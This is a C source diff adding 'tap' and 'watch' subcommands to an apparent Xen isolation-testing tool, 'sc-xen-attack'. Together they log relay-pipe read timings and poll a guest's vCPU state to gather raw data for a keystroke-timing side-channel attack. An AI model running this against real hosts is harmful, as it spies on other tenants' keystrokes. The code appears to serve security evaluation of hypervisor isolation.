@@ -35,6 +35,14 @@
  *   sc-xen-attack DOMID suspend
  *       SCHEDOP_remote_shutdown(SHUTDOWN_suspend) of the guest, as the
  *       toolstack's save does: its vCPUs stop where they are
+ *   sc-xen-attack 0 tap FILE
+ *       copies standard input to standard output and writes one line per
+ *       read to FILE, "NS BYTES" (CLOCK_MONOTONIC): when each record reached
+ *       dom0 (the relay's input), as an attacker with the relay's pipe sees
+ *   sc-xen-attack DOMID watch SECONDS FILE
+ *       polls XEN_DOMCTL_getvcpuinfo of vCPU 0 as fast as it answers for
+ *       SECONDS and writes "NS CPU_TIME RUNNING BLOCKED" to FILE whenever
+ *       one of them changed: the keystroke-timing attack's raw data
  *   sc-xen-attack DOMID hold-target
  *       makes an empty PV helper domain whose target is the guest
  *       (XEN_DOMCTL_set_target; Xen accepts only an HVM/PVH target), holds
@@ -89,7 +97,7 @@ static int usage(void)
     fprintf(stderr, "usage: sc-xen-attack DOMID suite pv|pvh FRAME MARKER |\n"
                     "       DOMID hold-map FRAME | DOMID seed-grant FRAME |\n"
                     "       DOMID unseed-grant | DOMID hold-gnttab FRAME MARKER | DOMID suspend |\n"
-                    "       DOMID hold-target\n");
+                    "       DOMID hold-target | 0 tap FILE | DOMID watch SECONDS FILE\n");
     return 2;
 }
 
@@ -421,6 +429,75 @@ static int suite(uint32_t domid, const char *kind, xen_pfn_t frame)
     return failed == 0 ? 0 : worked == 0 ? 1 : 3;
 }
 
+static long long mono_ns(void)
+{
+    struct timespec t;
+
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    return t.tv_sec * 1000000000LL + t.tv_nsec;
+}
+
+static int tap(const char *path)
+{
+    FILE *f = fopen(path, "w");
+    char buf[65536];
+
+    if (!f) {
+        fprintf(stderr, "sc-xen-attack: %s: %s\n", path, strerror(errno));
+        return 2;
+    }
+    for (;;) {
+        ssize_t n = read(0, buf, sizeof(buf)), off = 0;
+
+        if (n < 0 && errno == EINTR)
+            continue;
+        if (n <= 0)
+            break;
+        fprintf(f, "%lld %zd\n", mono_ns(), n);
+        fflush(f);
+        while (off < n) {
+            ssize_t w = write(1, buf + off, (size_t)(n - off));
+
+            if (w < 0 && errno == EINTR)
+                continue;
+            if (w <= 0) {
+                fclose(f);
+                return 1;
+            }
+            off += w;
+        }
+    }
+    return fclose(f) ? 1 : 0;
+}
+
+static int watch(uint32_t domid, long seconds, const char *path)
+{
+    FILE *f = fopen(path, "w");
+    long long end = mono_ns() + seconds * 1000000000LL, now;
+    xc_vcpuinfo_t last;
+    int first = 1;
+
+    if (!f) {
+        fprintf(stderr, "sc-xen-attack: %s: %s\n", path, strerror(errno));
+        return 2;
+    }
+    memset(&last, 0, sizeof(last));
+    while ((now = mono_ns()) < end) {
+        xc_vcpuinfo_t vi;
+
+        memset(&vi, 0, sizeof(vi));
+        if (xc_vcpu_getinfo(xch, domid, 0, &vi))
+            break;
+        if (first || vi.cpu_time != last.cpu_time || vi.running != last.running ||
+            vi.blocked != last.blocked)
+            fprintf(f, "%lld %llu %u %u\n", now, (unsigned long long)vi.cpu_time,
+                    (unsigned)vi.running, (unsigned)vi.blocked);
+        first = 0;
+        last = vi;
+    }
+    return fclose(f) ? 1 : 0;
+}
+
 static volatile sig_atomic_t stop;
 
 static void on_signal(int sig)
@@ -458,6 +535,8 @@ int main(int argc, char **argv)
     domid = strtoul(argv[1], &end, 10);
     if (*end || domid >= DOMID_FIRST_RESERVED)
         return usage();
+    if (!strcmp(argv[2], "tap") && argc == 4)
+        return tap(argv[3]);            /* needs no Xen interface (runs as op) */
     xch = xc_interface_open(NULL, NULL, 0);
     fm = xenforeignmemory_open(NULL, 0);
     gt = xengnttab_open(NULL, 0);
@@ -517,6 +596,8 @@ int main(int argc, char **argv)
         }
         xenforeignmemory_unmap_resource(fm, res);
         rc = failed == 0 ? 0 : worked == 0 ? 1 : 3;
+    } else if (!strcmp(argv[2], "watch") && argc == 5) {
+        rc = watch((uint32_t)domid, strtol(argv[3], NULL, 10), argv[4]);
     } else if (!strcmp(argv[2], "suspend") && argc == 3) {
         rc = xc_domain_shutdown(xch, (uint32_t)domid, SHUTDOWN_suspend) ? 1 : 0;
         printf(rc ? "refused: %s\n" : "suspended\n", strerror(errno));
